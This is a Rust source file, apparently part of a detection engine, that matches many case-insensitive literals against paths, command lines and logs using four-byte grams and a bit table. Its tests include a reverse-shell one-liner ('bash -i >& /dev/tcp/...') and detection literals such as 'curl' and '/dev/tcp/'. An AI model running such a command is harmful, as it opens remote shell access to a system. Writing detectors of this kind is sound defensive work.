//! Many literals, found in one pass over a text.
//!
//! In: literals, each with the numbers of what it stands for, once; texts, often. Out: the numbers of the literals that
//! stand in a text, in any case. Of each literal the rarest-looking run of four bytes (its gram) is kept; a pass looks
//! at each four bytes of the text, asks a small table of bits whether they are a gram at all, and compares the literal
//! only where they are. A pass depends little on the number of literals, and needs no automaton to be built: rules
//! load in no time. Shorter literals have passes of their own. Texts that are not ASCII must be folded by the caller.
//!
//! Bounded: a pass costs the length of the text times the literals that share a gram, which [`Literals::new`] keeps few.

use rustc_hash::FxHashMap;
use std::collections::BTreeMap;

/// Bits of the table for each gram: so many that a text that has nothing rarely hits one.
const BITS_PER_GRAM: usize = 64;
/// Fewest and most bits of the table, as powers of two: 128 bytes, and 16 KiB, half of a usual first-level cache.
const TABLE_BITS: (u32, u32) = (10, 17);
/// 2^32 divided by the golden ratio (Knuth, The Art of Computer Programming 3, §6.4): spreads what is alike.
const SPREAD: u32 = 0x9E37_79B1;
/// The bit that tells upper from lower case in ASCII, in each byte.
const CASE: u32 = 0x2020_2020;

/// Literals of one field.
#[derive(Debug, Default)]
pub(super) struct Literals {
    passes: Vec<Pass>,
}

/// Literals whose grams are of one length.
#[derive(Debug)]
struct Pass {
    /// Length of the grams, 1 to 4.
    width: usize,
    /// The bits of a gram of this length.
    mask: u32,
    /// How far a hash is shifted to be an index into the table.
    shift: u32,
    table: Box<[u64]>,
    grams: FxHashMap<u32, Vec<Literal>>,
}

#[derive(Debug)]
struct Literal {
    /// Folded.
    text: Box<[u8]>,
    /// Where its gram stands in it.
    at: usize,
    stands_for: Box<[usize]>,
}

impl Literals {
    /// Makes folded literals ready; empty ones are left out.
    pub(super) fn new(literals: BTreeMap<String, Vec<usize>>) -> Self {
        let mut by_width: [Vec<(String, Vec<usize>)>; 4] = Default::default();
        for (text, stands_for) in literals {
            if let Some(same) = text.len().min(4).checked_sub(1).and_then(|slot| by_width.get_mut(slot)) {
                same.push((text, stands_for));
            }
        }
        let passes = (1..).zip(by_width).filter(|(_, literals)| !literals.is_empty());
        Self { passes: passes.map(|(width, literals)| Pass::new(width, literals)).collect() }
    }

    /// Calls `found` with the numbers of each literal that stands in `text`, perhaps more than once.
    pub(super) fn find(&self, text: &[u8], found: &mut impl FnMut(usize)) {
        for pass in &self.passes {
            pass.find(text, found);
        }
    }
}

impl Pass {
    fn new(width: usize, literals: Vec<(String, Vec<usize>)>) -> Self {
        let bits = (literals.len() * BITS_PER_GRAM).next_power_of_two().ilog2().clamp(TABLE_BITS.0, TABLE_BITS.1);
        let mask = u32::MAX >> (8 * (4 - width.min(4)));
        let mut pass = Self {
            width,
            mask,
            shift: 32 - bits,
            table: vec![0; (1 << bits) / 64].into_boxed_slice(),
            grams: FxHashMap::default(),
        };
        for (text, stands_for) in literals {
            pass.add(text.into_bytes().into_boxed_slice(), stands_for.into_boxed_slice());
        }
        pass
    }

    fn add(&mut self, text: Box<[u8]>, stands_for: Box<[usize]>) {
        let sharing = |gram: u32| self.grams.get(&gram).map_or(0, Vec::len);
        let choices = text.windows(self.width).enumerate().map(|(at, bytes)| {
            let gram = gram(bytes) & self.mask;
            // Two that share a gram are worse than one that looks a little less rare.
            let rank = bytes.iter().map(|byte| rarity(*byte)).sum::<i64>() - 4 * sharing(gram) as i64;
            (rank, at, gram)
        });
        let Some((_, at, gram)) = choices.max_by_key(|(rank, at, _)| (*rank, std::cmp::Reverse(*at))) else {
            return;
        };
        let hash = gram.wrapping_mul(SPREAD) >> self.shift;
        if let Some(word) = self.table.get_mut(hash as usize / 64) {
            *word |= 1 << (hash % 64);
        }
        self.grams.entry(gram).or_default().push(Literal { text, at, stands_for });
    }

    fn find(&self, text: &[u8], found: &mut impl FnMut(usize)) {
        let mut look = |at: usize, gram: u32| {
            let hash = gram.wrapping_mul(SPREAD) >> self.shift;
            let word = self.table.get(hash as usize / 64).copied().unwrap_or(0);
            if word >> (hash % 64) & 1 == 1 {
                self.compare(text, at, gram, found);
            }
        };
        if self.width == 4 {
            for (at, bytes) in text.windows(4).enumerate() {
                if let Ok(bytes) = <[u8; 4]>::try_from(bytes) {
                    look(at, u32::from_le_bytes(bytes) | CASE);
                }
            }
        } else {
            for (at, bytes) in text.windows(self.width).enumerate() {
                look(at, gram(bytes) & self.mask);
            }
        }
    }

    /// Compares the literals whose gram stands in `text` at `at`.
    #[cold]
    #[inline(never)]
    fn compare(&self, text: &[u8], at: usize, gram: u32, found: &mut impl FnMut(usize)) {
        for literal in self.grams.get(&gram).into_iter().flatten() {
            let stands = at.checked_sub(literal.at).is_some_and(|start| {
                text.get(start..start + literal.text.len())
                    .is_some_and(|part| part.eq_ignore_ascii_case(&literal.text))
            });
            if stands {
                literal.stands_for.iter().for_each(|number| found(*number));
            }
        }
    }
}

/// Up to four bytes as a number, without case.
fn gram(bytes: &[u8]) -> u32 {
    bytes.iter().take(4).rev().fold(0, |gram, byte| gram << 8 | u32::from(*byte)) | CASE
}

/// How rarely a byte is seen in paths, command lines and log texts, roughly.
pub(super) fn rarity(byte: u8) -> i64 {
    match byte {
        b'e' | b't' | b'a' | b'o' | b'i' | b'n' | b's' | b'r' => 0,
        b'/' | b'\\' | b' ' | b'.' | b'l' | b'c' | b'd' | b'u' | b'm' | b'p' | b'-' => 1,
        b'a'..=b'z' | b'0'..=b'9' | b'=' | b'"' | b':' | b'_' => 2,
        _ => 4,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_literal_in_a_text_is_found_whatever_its_length_and_place() {
        let words = ["a", "sh", "-i ", "curl", "/dev/tcp/", "aaaa", "nothere", "ñandú", "zz"];
        let literals = words.iter().enumerate().map(|(number, word)| ((*word).to_owned(), vec![number]));
        let set = Literals::new(literals.collect());
        for text in ["bash -i >& /dev/tcp/1.2.3.4/9", "CURL", "xaaaaax", "", "s", "el ñandú", "z", "nother"] {
            let mut found = Vec::new();
            set.find(text.as_bytes(), &mut |number| found.push(number));
            found.sort_unstable();
            found.dedup();
            let lower = text.to_lowercase();
            let expect: Vec<usize> =
                (0..).zip(words).filter(|(_, word)| lower.contains(word)).map(|(number, _)| number).collect();
            assert_eq!(found, expect, "{text}");
        }
    }

    #[test]
    fn a_literal_that_stands_for_several_names_all() {
        let set = Literals::new([("http".to_owned(), vec![3, 5])].into());
        let mut found = Vec::new();
        set.find(b"see http://x", &mut |number| found.push(number));
        assert_eq!(found, [3, 5]);
    }
}
